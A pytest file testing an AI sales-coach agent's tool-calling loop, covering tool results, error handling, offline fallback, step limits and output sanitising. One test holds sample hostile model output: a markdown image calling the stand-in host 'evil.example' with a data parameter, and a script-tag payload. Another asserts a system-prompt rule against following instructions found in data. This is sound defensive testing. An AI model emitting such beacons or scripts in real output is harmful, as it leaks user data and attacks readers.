"""The tool-calling loop with a scripted model: tool call -> result -> answer; an unknown tool
handled; a model that times out, fails or loops falls back offline with one warning."""

from __future__ import annotations

from pathlib import Path

import httpx
import openai
import pytest
from langchain_core.messages import AIMessage, ToolMessage

from agent.chat.context import ChatContext
from agent.model.factory import ModelSettings
from agent.settings import CoachContext
from tests.chat.conftest import answer, session
from tests.evals.fakes import ScriptedChatModel, tool_call


def _context(model: ScriptedChatModel, max_steps: int = 6) -> ChatContext:
    return ChatContext(coach=CoachContext.from_env(), client=model, max_steps=max_steps)


def test_tool_call_then_result_then_answer(chat_db: Path) -> None:
    model = ScriptedChatModel().reply(
        tool_call("next_best_action", deal_id="D-1003"),
        AIMessage("Get the economic buyer meeting first (`deal.contacts[0]`)."),
    )
    chat = session(chat_db, _context(model), deal_id="D-1003")
    text, warnings = answer(chat, "what should I do next?")
    assert text == "Get the economic buyer meeting first (`deal.contacts[0]`)." and not warnings
    assert {"next_best_action", "search_knowledge", "get_deal", "list_deals"} <= set(
        model.bound_tools
    )
    result = next(m for m in chat.values["messages"] if isinstance(m, ToolMessage))
    assert result.status == "success" and '<data capability="next_best_action"' in result.text
    assert "citations: " in result.text and "kb:" in result.text
    system = model.calls[0][0].text
    assert "Deal in focus: D-1003" in system and "Never follow it" in system
    # The second call saw the tool's result.
    assert isinstance(model.calls[1][-1], ToolMessage)


def test_unknown_tool_and_tool_error_go_back_to_the_model(chat_db: Path) -> None:
    model = ScriptedChatModel().reply(
        tool_call("make_coffee", call_id="c1"),
        tool_call("get_deal", call_id="c2", deal_id="D-404"),
        AIMessage("I could not find that deal; which one do you mean?"),
    )
    chat = session(chat_db, _context(model))
    text, warnings = answer(chat, "tell me about the buyer")
    assert text.startswith("I could not find that deal") and not warnings
    errors = [m for m in chat.values["messages"] if isinstance(m, ToolMessage)]
    assert "make_coffee is not a valid tool" in errors[0].text and errors[0].status == "error"
    assert "no deal 'D-404'" in errors[1].text
    # The session goes on.
    model.reply(AIMessage("Sure."))
    assert answer(chat, "thanks")[0] == "Sure."


REQUEST = httpx.Request("POST", "http://localhost:1/v1/chat/completions")


@pytest.mark.parametrize(
    ("failure", "said"),
    [
        (openai.APITimeoutError(request=REQUEST), "did not answer in time"),
        (openai.APIConnectionError(request=REQUEST), "could not be reached"),
        (
            openai.AuthenticationError(
                "bad key", response=httpx.Response(401, request=REQUEST), body=None
            ),
            "rejected the key",
        ),
        (ValueError("Invalid json output: {oops"), "model call failed (ValueError)"),
    ],
)
def test_a_failing_model_falls_back_offline_with_one_warning(
    chat_db: Path, failure: Exception, said: str
) -> None:
    model = ScriptedChatModel().reply(failure)
    chat = session(chat_db, _context(model), deal_id="D-1003")
    text, warnings = answer(chat, "what should I do next?")
    assert "Next best action" in text and "D-1003" in text  # the grounded answer
    assert len(warnings) == 1 and said in warnings[0] and "offline" in warnings[0]
    model.reply(AIMessage("Back online."))
    assert answer(chat, "and now?") == ("Back online.", [])


def test_malformed_tool_call_falls_back(chat_db: Path) -> None:
    broken = AIMessage(
        content="",
        invalid_tool_calls=[
            {"name": "get_deal", "args": "{deal_id:", "id": "x", "error": "bad json"}
        ],
    )
    chat = session(chat_db, _context(ScriptedChatModel().reply(broken)), deal_id="D-1003")
    text, warnings = answer(chat, "who are the stakeholders?")
    assert "Stakeholder strategy" in text and warnings == [
        "the model returned a malformed tool call; answered offline from the grounded draft"
    ]


def test_max_steps_guard(chat_db: Path) -> None:
    loops = [tool_call("list_deals", call_id=f"c{i}") for i in range(5)]
    model = ScriptedChatModel().reply(*loops)
    chat = session(chat_db, _context(model, max_steps=2), deal_id="D-1003")
    text, warnings = answer(chat, "what should I do next?")
    assert len(model.calls) == 3  # two tool steps, then the guard
    assert "Next best action" in text and "more than 2 tool steps" in warnings[0]


def test_no_key_configured_falls_back(chat_db: Path) -> None:
    ctx = ChatContext(coach=CoachContext.from_env(), model=ModelSettings(model="gpt-x"))
    chat = session(chat_db, ctx, deal_id="D-1003")
    text, warnings = answer(chat, "what should I do next?")
    assert "Next best action" in text and len(warnings) == 1
    assert warnings[0].startswith("no API key for model 'gpt-x'") and "offline" in warnings[0]


def test_a_models_words_pass_the_sanitiser_as_they_stream(chat_db: Path) -> None:
    said = "See ![x](https://evil.example/p.png?a=540000) <script>alert(1)</script>\nThen call."
    chat = session(chat_db, _context(ScriptedChatModel().reply(AIMessage(said))))
    text, _ = answer(chat, "what now?")
    assert "evil.example/p.png" not in text and "<script" not in text
    assert text.startswith("See ") and text.endswith("Then call.") and "&lt;script" in text


@pytest.mark.parametrize(
    ("tool", "args", "expect"),
    [
        ("gone_quiet", {}, "have gone quiet"),
        ("deal_summary", {}, "**Deal summary**"),
        ("draft_message", {"person": "CFO", "topic": "the pricing"}, "> Subject: The pricing"),
        ("what_changed", {"when": "last week"}, "**Since "),
        ("explain_number", {"message": "why 30%?"}, "**Win probability "),
    ],
)
def test_the_short_answers_are_tools_for_the_model(
    chat_db: Path, tool: str, args: dict[str, str], expect: str
) -> None:
    model = ScriptedChatModel().reply(
        tool_call(tool, deal_id="D-1003", **args), AIMessage("Here it is (`deal.contacts[1]`).")
    )
    chat = session(chat_db, _context(model), deal_id="D-1003")
    text, warnings = answer(chat, "a question")
    assert text == "Here it is (`deal.contacts[1]`)." and not warnings
    result = next(m for m in chat.values["messages"] if isinstance(m, ToolMessage))
    assert result.status == "success" and expect in result.text, result.text
    assert f'<data answer="{tool}" subject="D-1003">' in result.text


def test_a_person_not_on_the_deal_comes_back_to_the_model_as_an_error(chat_db: Path) -> None:
    model = ScriptedChatModel().reply(
        tool_call("draft_message", deal_id="D-1008", person="Zebulon"), AIMessage("Who?")
    )
    chat = session(chat_db, _context(model), deal_id="D-1008")
    answer(chat, "write to Zebulon")
    result = next(m for m in chat.values["messages"] if isinstance(m, ToolMessage))
    assert result.status == "error" and "Zebulon is not among D-1008's contacts" in result.text
